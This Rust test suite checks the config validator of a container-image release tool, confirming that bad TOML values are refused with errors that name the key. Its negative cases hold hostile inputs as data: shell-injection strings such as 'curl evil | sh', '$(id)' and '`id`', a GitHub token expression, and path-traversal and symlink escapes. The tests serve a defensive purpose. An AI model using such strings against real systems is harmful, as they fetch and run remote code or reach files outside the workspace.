//! Config cases, by behaviour.

use super::*;

fn root() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(d.path().join("backend")).unwrap();
    std::fs::write(d.path().join("backend/Dockerfile"), "FROM scratch\n").unwrap();
    std::fs::write(d.path().join("compose.yaml"), "services: {}\n").unwrap();
    d
}

const GOOD: &str = r#"
[release]
name = "votive"
registries = ["ghcr.io/oxilith", "docker.io/oxilith"]
platforms = ["linux/amd64", "linux/arm64"]
tags = ["type=ref,event=branch", "type=semver,pattern={{major}}"]
latest = "auto"

[images.backend]
dockerfile = "backend/Dockerfile"
context = "backend"
build-args = { NODE_ENV = "production" }

[images.worker]
native = { cargo-bin = "worker" }
base = "scratch"
entrypoint = ["/usr/local/bin/worker"]
user = "65532:65532"

[compose]
files = ["compose.yaml"]
repository = "votive-oci"
"#;

fn parse(root: &Path, text: &str) -> Result<Config, ConfigError> {
    Config::parse(root, Path::new("images/release.toml"), text)
}

#[test]
fn good_config_loads() {
    let d = root();
    let c = parse(d.path(), GOOD).unwrap();
    assert_eq!(c.registries.len(), 2);
    assert_eq!(c.registries[1].to_string(), "docker.io/oxilith");
    assert_eq!(c.platforms_of("backend").len(), 2);
    assert_eq!(c.rules.len(), 2);
    assert_eq!(c.compose_repository(&c.compose[0]), "votive-oci");
}

fn error_of(text: &str) -> String {
    let d = root();
    parse(d.path(), text).unwrap_err().to_string()
}

#[test]
fn unknown_key_names_key_and_file() {
    let e = error_of(&GOOD.replace("context = \"backend\"", "contxt = \"backend\""));
    assert!(e.contains("images/release.toml"), "{e}");
    assert!(e.contains("images.backend"), "{e}");
    assert!(e.contains("contxt"), "{e}");
}

#[test]
fn bad_platform_is_named() {
    let e = error_of(&GOOD.replace("\"linux/arm64\"]", "\"linux/arm65\"]"));
    assert!(e.contains("release.platforms"), "{e}");
    assert!(e.contains("linux/arm65"), "{e}");
}

#[test]
fn upper_case_repository_is_named() {
    let e = error_of(&GOOD.replace(
        "context = \"backend\"",
        "context = \"backend\"\nrepository = \"Clearsplit/api\"",
    ));
    assert!(e.contains("images.backend.repository"), "{e}");
    assert!(e.contains("upper-case"), "{e}");
}

#[test]
fn missing_dockerfile_is_named() {
    let e = error_of(&GOOD.replace("backend/Dockerfile", "backend/Dockerfile.missing"));
    assert!(e.contains("images.backend.dockerfile"), "{e}");
    assert!(e.contains("Dockerfile.missing"), "{e}");
}

#[test]
fn several_problems_are_reported_together() {
    let e = error_of(
        &GOOD
            .replace("ghcr.io/oxilith\"", "ghcr.io/Oxilith\"")
            .replace("repository = \"votive-oci\"", "repository = \"worker\""),
    );
    assert!(e.contains("2 problems"), "{e}");
    assert!(e.contains("release.registries[0]"), "{e}");
    assert!(e.contains("compose.repository"), "{e}");
}

#[test]
fn duplicate_repositories_are_rejected() {
    let e = error_of(&GOOD.replace(
        "context = \"backend\"",
        "context = \"backend\"\nrepository = \"worker\"",
    ));
    assert!(e.contains("already used by images."), "{e}");
}

#[test]
fn files_outside_the_workspace_are_refused() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret"), "s").unwrap();
    let d = root();
    std::fs::create_dir_all(d.path().join("files")).unwrap();
    std::fs::write(d.path().join("files/ok"), "ok").unwrap();
    std::os::unix::fs::symlink(outside.path().join("secret"), d.path().join("files/link")).unwrap();
    std::os::unix::fs::symlink("ok", d.path().join("files/inner-link")).unwrap();
    let with_src = |src: &str| {
        GOOD.replace(
            "native = { cargo-bin = \"worker\" }",
            &format!("native = {{ files = [{{ src = \"{src}\", dst = \"/x\" }}] }}"),
        )
    };
    let cases = [
        ("/etc/hostname", "absolute path"),
        ("../../outside/secret", "leaves the workspace"),
        ("files/../../x/{arch}", "leaves the workspace"),
        ("files/link", "outside the workspace root"),
    ];
    for (src, why) in cases {
        let e = parse(d.path(), &with_src(src)).unwrap_err().to_string();
        assert!(
            e.contains("images.worker.native.files[0].src"),
            "{src}: {e}"
        );
        assert!(e.contains(why), "{src}: {e}");
    }
    parse(d.path(), &with_src("files/inner-link")).unwrap();
    let e = parse(
        d.path(),
        &GOOD.replace("\"backend/Dockerfile\"", "\"/etc/hostname\""),
    )
    .unwrap_err()
    .to_string();
    assert!(e.contains("images.backend.dockerfile"), "{e}");
    let e = parse(
        d.path(),
        &GOOD.replace("context = \"backend\"", "context = \"..\""),
    )
    .unwrap_err()
    .to_string();
    assert!(e.contains("images.backend.context"), "{e}");
}

#[test]
fn empty_platforms_and_windows_native_images_are_refused() {
    let e = error_of(&GOOD.replace(
        "platforms = [\"linux/amd64\", \"linux/arm64\"]",
        "platforms = []",
    ));
    assert!(e.contains("release.platforms: must not be empty"), "{e}");
    let e = error_of(&GOOD.replace(
        "user = \"65532:65532\"",
        "user = \"65532:65532\"\nplatforms = [\"windows/amd64\"]",
    ));
    assert!(e.contains("images.worker.native"), "{e}");
    assert!(e.contains("Linux layers only"), "{e}");
    let e = error_of(&GOOD.replace("ghcr.io/oxilith\"", "localhost:70000/oxilith\""));
    assert!(e.contains("release.registries[0]"), "{e}");
    assert!(e.contains("1 to 65535"), "{e}");
}

#[test]
fn image_names_follow_the_repository_grammar() {
    for bad in ["../../ESCAPE", "Web", "a/b", "-x", "x_"] {
        let e = error_of(&GOOD.replace("[images.worker]", &format!("[images.\"{bad}\"]")));
        assert!(e.contains("repository path component"), "{bad}: {e}");
    }
}

#[test]
fn every_unknown_key_and_bad_value_is_reported_in_one_run() {
    let text = GOOD
        .replace("context = \"backend\"", "contxt = \"backend\"")
        .replace(
            "user = \"65532:65532\"",
            "user = \"65532:65532\"\nentrypont = []",
        )
        .replace("\"linux/arm64\"]", "\"linux/arm65\"]");
    let e = error_of(&text.replace("backend/Dockerfile", "backend/Dockerfile.missing"));
    assert!(e.contains("4 problems"), "{e}");
    assert!(e.contains("images.backend.dockerfile"), "{e}");
    assert!(e.contains("images.backend.contxt"), "{e}");
    assert!(e.contains("images.worker.entrypont"), "{e}");
    assert!(e.contains("release.platforms[1]"), "{e}");
    assert!(e.contains("linux/arm65"), "{e}");
}

#[test]
fn every_bad_list_item_is_named_by_its_own_position() {
    let e = error_of(&GOOD.replace(
        "platforms = [\"linux/amd64\", \"linux/arm64\"]",
        "platforms = [\"linux/amd64\", \"linux/arm65\", \"linux/arm64\", \"linux/ppc\", \
         \"linux/s390x\", \"linux/mips9\"]",
    ));
    assert!(e.contains("3 problems"), "{e}");
    for (key, value) in [("[1]", "arm65"), ("[3]", "linux/ppc"), ("[5]", "mips9")] {
        let line = e
            .lines()
            .find(|l| l.contains(&format!("release.platforms{key}")))
            .unwrap_or_else(|| panic!("no release.platforms{key} in {e}"));
        assert!(line.contains(value), "{line}");
    }
}

#[test]
fn bad_rule_is_named() {
    let e = error_of(&GOOD.replace("type=ref,event=branch", "type=nope"));
    assert!(e.contains("release.tags[0]"), "{e}");
}

#[test]
fn syntax_error_has_a_line() {
    let e = error_of("[release\nname=1");
    assert!(e.contains("line 1"), "{e}");
}

#[test]
fn compression_levels_are_checked_per_codec() {
    let with = |extra: &str| {
        GOOD.replace(
            "user = \"65532:65532\"",
            &format!("user = \"65532:65532\"\n{extra}"),
        )
    };
    let d = root();
    for ok in [
        "compression-level = 9",
        "compression = \"zstd\"\ncompression-level = 19",
        "compression = \"zstd\"\ncompression-level = 1",
    ] {
        parse(d.path(), &with(ok)).unwrap();
    }
    let e = error_of(&with("compression-level = 10"));
    assert!(e.contains("images.worker.compression-level"), "{e}");
    assert!(e.contains("gzip (0-9"), "{e}");
    for bad in [0, 20] {
        let e = error_of(&with(&format!(
            "compression = \"zstd\"\ncompression-level = {bad}"
        )));
        assert!(e.contains("zstd (1-19"), "{e}");
    }
}

#[test]
fn one_compose_table_and_an_array_of_tables_both_read() {
    let d = root();
    std::fs::write(d.path().join("b.yaml"), "services: {}\n").unwrap();
    let c = parse(d.path(), GOOD).unwrap();
    assert_eq!(c.compose.len(), 1);
    assert!(c.compose[0].resolve_external && !c.compose[0].env_files);
    assert_eq!(c.compose[0].oci_version, ComposeOciVersion::Auto);
    let many = GOOD.replace(
        "[compose]\nfiles = [\"compose.yaml\"]\nrepository = \"votive-oci\"",
        "[[compose]]\nfiles = [\"compose.yaml\"]\nrepository = \"a-oci\"\nallow = [\"bind-mounts\"]\n\
         oci-version = \"1.0\"\n[[compose]]\nfiles = [\"b.yaml\"]\nrepository = \"b-oci\"\n\
         env-files = true\nresolve-external = false",
    );
    let c = parse(d.path(), &many).unwrap();
    assert_eq!(c.compose.len(), 2);
    assert_eq!(c.compose[0].allow, vec![ComposeAllow::BindMounts]);
    assert_eq!(c.compose[0].oci_version, ComposeOciVersion::V1_0);
    assert!(c.compose[1].env_files && !c.compose[1].resolve_external);
}

#[test]
fn bad_compose_keys_and_values_are_named() {
    for (bad, key) in [
        ("file = \"x\"", "compose"),
        ("allow = [\"everything\"]", "compose.allow"),
        ("oci-version = \"2\"", "compose.oci-version"),
    ] {
        let e = error_of(&GOOD.replace(
            "repository = \"votive-oci\"",
            &format!("repository = \"votive-oci\"\n{bad}"),
        ));
        assert!(e.contains(key), "{bad}: {e}");
    }
    let two_same = GOOD.replace(
        "[compose]\nfiles = [\"compose.yaml\"]\nrepository = \"votive-oci\"",
        "[[compose]]\nfiles = [\"compose.yaml\"]\nrepository = \"x-oci\"\n\
         [[compose]]\nfiles = [\"compose.yaml\"]\nrepository = \"x-oci\"",
    );
    let e = error_of(&two_same);
    assert!(e.contains("compose[1].repository"), "{e}");
    assert!(e.contains("already used"), "{e}");
}

#[test]
fn build_args_may_use_templates_and_give_version_its_form() {
    let d = root();
    let ok = GOOD.replace(
        "build-args = { NODE_ENV = \"production\" }",
        "build-args = { VERSION = \"v{{version}}\", REF = \"{{branch}}-{{sha}}\" }",
    );
    parse(d.path(), &ok).unwrap();
    let e = error_of(&GOOD.replace(
        "build-args = { NODE_ENV = \"production\" }",
        "build-args = { WHEN = \"{{date 'YYYY'}}\" }",
    ));
    assert!(e.contains("images.backend.build-args.WHEN"), "{e}");
}

#[test]
fn sbom_key_reads_its_three_values_and_names_itself_when_bad() {
    let d = root();
    let with = |v: &str| GOOD.replace("latest = \"auto\"", &format!("latest = \"auto\"\n{v}"));
    assert_eq!(parse(d.path(), GOOD).unwrap().release.sbom, SbomMode::Auto);
    for (text, want) in [
        ("sbom = \"auto\"", SbomMode::Auto),
        ("sbom = \"syft\"", SbomMode::Syft),
        ("sbom = \"off\"", SbomMode::Off),
    ] {
        assert_eq!(parse(d.path(), &with(text)).unwrap().release.sbom, want);
    }
    for bad in ["sbom = \"cyclonedx\"", "sbom = true", "sbom = \"Syft\""] {
        let e = error_of(&with(bad));
        assert!(e.contains("release.sbom"), "{bad}: {e}");
        assert!(e.contains("images/release.toml"), "{bad}: {e}");
    }
}

#[test]
fn signing_key_reads_key_or_github_and_names_itself_when_bad() {
    let d = root();
    let with = |v: &str| GOOD.replace("latest = \"auto\"", &format!("latest = \"auto\"\n{v}"));
    assert_eq!(
        parse(d.path(), GOOD).unwrap().release.signing,
        SigningMode::Key
    );
    for (text, want) in [
        ("signing = \"key\"", SigningMode::Key),
        ("signing = \"github\"", SigningMode::Github),
    ] {
        assert_eq!(parse(d.path(), &with(text)).unwrap().release.signing, want);
    }
    for bad in [
        "signing = \"sigstore\"",
        "signing = true",
        "signing = \"GitHub\"",
    ] {
        let e = error_of(&with(bad));
        assert!(e.contains("release.signing"), "{bad}: {e}");
        assert!(e.contains("images/release.toml"), "{bad}: {e}");
    }
}

/// `GOOD` with `extra` lines added to the native image `worker`.
fn worker_with(extra: &str) -> String {
    GOOD.replace(
        "user = \"65532:65532\"",
        &format!("user = \"65532:65532\"\n{extra}"),
    )
}

#[test]
fn late_failing_values_are_refused_at_load_naming_the_key() {
    let files = |dst: &str| {
        GOOD.replace(
            "native = { cargo-bin = \"worker\" }",
            &format!(
                "native = {{ files = [{{ src = \"backend/Dockerfile\", dst = \"{dst}\" }}] }}"
            ),
        )
    };
    let cases: Vec<(String, &str, &str)> = vec![
        (
            files("/../../etc/x"),
            "images.worker.native.files[0].dst",
            "`..`",
        ),
        (
            files("/usr/bin/a\\u0000b"),
            "images.worker.native.files[0].dst",
            "NUL",
        ),
        (
            files("usr/bin/x"),
            "images.worker.native.files[0].dst",
            "absolute",
        ),
        (
            GOOD.replace(
                "native = { cargo-bin = \"worker\" }",
                "native = { cargo-bin = \"worker\", dst = \"/bin/../../x\" }",
            ),
            "images.worker.native.dst",
            "`..`",
        ),
        (
            worker_with("stop-signal = \"SIGNOPE\""),
            "images.worker.stop-signal",
            "not a signal",
        ),
        (
            worker_with("stop-signal = \"0\""),
            "images.worker.stop-signal",
            "not a signal",
        ),
        (
            GOOD.replace("user = \"65532:65532\"", "user = \"root\\n\""),
            "images.worker.user",
            "not a user",
        ),
        (
            GOOD.replace("user = \"65532:65532\"", "user = \"a:b:c\""),
            "images.worker.user",
            "not a user",
        ),
        (
            worker_with("env = { \"A=B\" = \"x\" }"),
            "images.worker.env",
            "not a variable name",
        ),
        (
            worker_with("env = { \"\" = \"x\" }"),
            "images.worker.env",
            "not a variable name",
        ),
        (
            worker_with("env = { \"A\\u0000\" = \"x\" }"),
            "images.worker.env",
            "not a variable name",
        ),
        (
            worker_with("env = { A = \"x\\u0000y\" }"),
            "images.worker.env.A",
            "NUL",
        ),
        (
            GOOD.replace(
                "latest = \"auto\"",
                "latest = \"auto\"\ndefault-branch = \"\"",
            ),
            "release.default-branch",
            "empty",
        ),
        (
            GOOD.replace("scratch", "oci:/abs/path"),
            "images.worker.base",
            "absolute path",
        ),
        (
            GOOD.replace("scratch", "oci:../other:latest"),
            "images.worker.base",
            "leaves the workspace",
        ),
        (
            GOOD.replace("scratch", "Not A Reference"),
            "images.worker.base",
            "registry reference",
        ),
        (
            worker_with("working-dir = \"srv\""),
            "images.worker.working-dir",
            "absolute",
        ),
        (
            worker_with("volumes = [\"/data\", \"/x/../..\"]"),
            "images.worker.volumes[1]",
            "`..`",
        ),
        (
            worker_with("exposed-ports = [\"0\"]"),
            "images.worker.ports",
            "1-65535",
        ),
        (
            worker_with("labels = { \"a=b\" = \"x\" }"),
            "images.worker.labels",
            "not a label key",
        ),
        (
            worker_with("labels = { \"org.opencontainers.image.revision\" = \"x\" }"),
            "images.worker.labels",
            "set by stevedore",
        ),
        (
            GOOD.replace(
                "entrypoint = [\"/usr/local/bin/worker\"]",
                "entrypoint = [\"/a\\u0000\"]",
            ),
            "images.worker.entrypoint[0]",
            "NUL",
        ),
        (
            worker_with("healthcheck = { test = [\"CMD\", \"x\\u0000\"] }"),
            "images.worker.healthcheck.test[1]",
            "NUL",
        ),
        (
            GOOD.replace(
                "build-args = { NODE_ENV = \"production\" }",
                "build-args = { \"A B\" = \"x\" }",
            ),
            "images.backend.build-args",
            "not a variable name",
        ),
        (
            GOOD.replace(
                "context = \"backend\"",
                "context = \"backend\"\ntarget = \"\"",
            ),
            "images.backend.target",
            "must not be empty",
        ),
        (
            GOOD.replace(
                "latest = \"auto\"",
                "latest = \"auto\"\nsecret-build-args = [\"A=B\"]",
            ),
            "release.secret-build-args[0]",
            "not a variable name",
        ),
        (
            GOOD.replace("name = \"votive\"", "name = \"votive\\n\""),
            "release.name",
            "control character",
        ),
        (
            GOOD.replace(
                "latest = \"auto\"",
                "latest = \"auto\"\ninsecure-registries = [\"a b:5000\"]",
            ),
            "release.insecure-registries[0]",
            "host[:port]",
        ),
        (
            GOOD.replace(
                "latest = \"auto\"",
                "latest = \"auto\"\nmirrors = { \"docker.io\" = \"hub-cache\" }",
            ),
            "release.mirrors.\"docker.io\"",
            "does not start with a registry host",
        ),
        (
            GOOD.replace(
                "latest = \"auto\"",
                "latest = \"auto\"\nmirrors = { \"docker.io/library\" = \"mirror.lan\" }",
            ),
            "release.mirrors.\"docker.io/library\"",
            "not a registry host",
        ),
        (
            GOOD.replace(
                "native = { cargo-bin = \"worker\" }",
                "native = { cargo-bin = \"worker; id\" }",
            ),
            "images.worker.native.cargo-bin",
            "not a cargo",
        ),
    ];
    for (text, key, why) in cases {
        let e = error_of(&text);
        assert!(e.contains(&format!("{key}:")), "{key}: {e}");
        assert!(e.contains(why), "{key} ({why}): {e}");
        assert!(e.contains("1 problem\n"), "{key}: {e}");
    }
}

#[test]
fn well_formed_image_config_values_load() {
    let d = root();
    for extra in [
        "stop-signal = \"SIGQUIT\"",
        "stop-signal = \"TERM\"",
        "stop-signal = \"SIGRTMIN+3\"",
        "stop-signal = \"9\"",
        "env = { RUST_LOG = \"info\", \"my.var\" = \"a=b\" }",
        "working-dir = \"/srv\"",
        "volumes = [\"/data\"]",
        "exposed-ports = [\"8080\", \"53/udp\"]",
        "labels = { \"com.example.team\" = \"core\", \"org.opencontainers.image.title\" = \"w\" }",
        "native.targets = { \"linux/amd64\" = \"x86_64-unknown-linux-musl\" }",
    ] {
        let text = if let Some(t) = extra.strip_prefix("native.targets = ") {
            GOOD.replace(
                "native = { cargo-bin = \"worker\" }",
                &format!("native = {{ cargo-bin = \"worker\", targets = {t} }}"),
            )
        } else {
            worker_with(extra)
        };
        parse(d.path(), &text).unwrap_or_else(|e| panic!("{extra}: {e}"));
    }
    for user in [
        "root",
        "65532",
        "65532:65532",
        "app:app",
        "www-data",
        "nobody:nogroup",
    ] {
        let text = GOOD.replace("user = \"65532:65532\"", &format!("user = \"{user}\""));
        parse(d.path(), &text).unwrap_or_else(|e| panic!("{user}: {e}"));
    }
    std::fs::create_dir_all(d.path().join("layouts/nginx")).unwrap();
    for base in [
        "alpine:3.20",
        "gcr.io/distroless/static:nonroot",
        "oci:layouts/nginx",
        "oci:layouts/nginx:1.27",
        "oci:target/nginx-oci",
    ] {
        let text = GOOD.replace("scratch", base);
        parse(d.path(), &text).unwrap_or_else(|e| panic!("{base}: {e}"));
    }
}

#[test]
fn rust_target_triples_are_checked() {
    for good in [
        "x86_64-unknown-linux-gnu",
        "x86_64-unknown-linux-musl",
        "aarch64-unknown-linux-gnu",
        "aarch64-unknown-linux-musl",
        "armv7-unknown-linux-gnueabihf",
        "arm-unknown-linux-musleabihf",
        "i686-unknown-linux-gnu",
        "riscv64gc-unknown-linux-gnu",
        "powerpc64le-unknown-linux-gnu",
        "s390x-unknown-linux-gnu",
        "wasm32-wasip1",
        "wasm32-unknown-unknown",
        "aarch64-apple-darwin",
        "x86_64-pc-windows-msvc",
        "thumbv7em-none-eabihf",
        "x86_64-unknown-linux-gnux32",
    ] {
        checks::target_triple(good).unwrap_or_else(|e| panic!("{good}: {e}"));
    }
    for bad in [
        "",
        "x86_64",
        "x86_64-unknown-linux-gnu; curl evil | sh",
        "x86_64-unknown-linux-gnu $(id)",
        "x86_64-unknown-linux-gnu\nrm",
        "X86_64-unknown-linux-gnu",
        "-x86_64-unknown",
        "x86_64--linux",
        "a-b-c-d-e-f",
        "my-target.json'",
        "x86_64-unknown-linux-`id`",
    ] {
        let e = checks::target_triple(bad).unwrap_err();
        assert!(e.contains("not a Rust target triple"), "{bad}: {e}");
    }
}

#[test]
fn branch_names_follow_git_check_ref_format() {
    for good in [
        "main",
        "master",
        "trunk",
        "release/1.x",
        "feature/foo-bar_baz",
        "v1.2",
        "a.b",
        "dev@home",
        "ça-va",
        "fix#12",
        "a=b,c",
    ] {
        checks::branch_name(good).unwrap_or_else(|e| panic!("{good}: {e}"));
    }
    for (bad, why) in [
        ("", "empty"),
        ("-x", "starts with `-`"),
        ("HEAD", "reserves"),
        ("@", "reserves"),
        ("a b", "space"),
        ("a\nb", "control"),
        ("a\u{7f}", "control"),
        ("a~1", "`~`"),
        ("a^", "`^`"),
        ("a:b", "`:`"),
        ("a?", "glob"),
        ("a*", "glob"),
        ("a[", "glob"),
        ("a\\b", "`\\`"),
        ("a..b", "`..`"),
        ("a@{1}", "`@{`"),
        ("/a", "`/`"),
        ("a/", "`/`"),
        ("a//b", "`//`"),
        ("a.", "ends with `.`"),
        (".a", "starts with `.`"),
        ("a/.b", "starts with `.`"),
        ("a.lock", "`.lock`"),
        ("a.lock/b", "`.lock`"),
        ("main}}", "expression"),
        ("${{github.token}}", "expression"),
        ("main$(id)", "shell"),
        ("main;id", "shell"),
        ("`id`", "shell"),
        ("!main", "filter"),
        ("x{y", "shell"),
        ("main'; curl evil | sh; '", "space"),
    ] {
        let e = checks::branch_name(bad).unwrap_err();
        assert!(e.contains("not a git branch name"), "{bad:?}: {e}");
        assert!(e.contains(why), "{bad:?} ({why}): {e}");
    }
}

#[test]
fn bad_native_targets_and_default_branch_are_named() {
    let e = error_of(&GOOD.replace(
        "native = { cargo-bin = \"worker\" }",
        "native = { cargo-bin = \"worker\", targets = { \"linux/amd64\" = \"x86_64-unknown-linux-gnu; id\" } }",
    ));
    assert!(
        e.contains("images.worker.native.targets.\"linux/amd64\": \"x86_64-unknown-linux-gnu; id\" is not a Rust target triple"),
        "{e}"
    );
    let e = error_of(&GOOD.replace(
        "latest = \"auto\"",
        "latest = \"auto\"\ndefault-branch = \"main$(id)\"",
    ));
    assert!(e.contains("release.default-branch"), "{e}");
}

#[test]
fn signals_users_and_image_paths_follow_their_grammars() {
    for good in [
        "SIGTERM",
        "sigterm",
        "KILL",
        "SIGRTMAX-2",
        "64",
        "1",
        "SIGWINCH",
    ] {
        checks::stop_signal(good).unwrap_or_else(|e| panic!("{good}: {e}"));
    }
    for bad in [
        "",
        "SIGNOPE",
        "65",
        "0",
        "SIGRTMIN+16",
        "SIG",
        "-9",
        "SIGTERM\n",
    ] {
        checks::stop_signal(bad).unwrap_err();
    }
    for bad in [
        "",
        ":",
        "root:",
        ":root",
        "root\n",
        "a b",
        "-x",
        "4294967296",
        "a;b",
    ] {
        checks::user(bad).unwrap_err();
    }
    for good in ["/", "/usr/local/bin/app", "/srv/", "/a/./b", "/a..b/c"] {
        checks::image_path(good).unwrap_or_else(|e| panic!("{good}: {e}"));
    }
    for bad in ["", "x", "/..", "/a/../b", "/a\0b", "/a\nb"] {
        checks::image_path(bad).unwrap_err();
    }
}
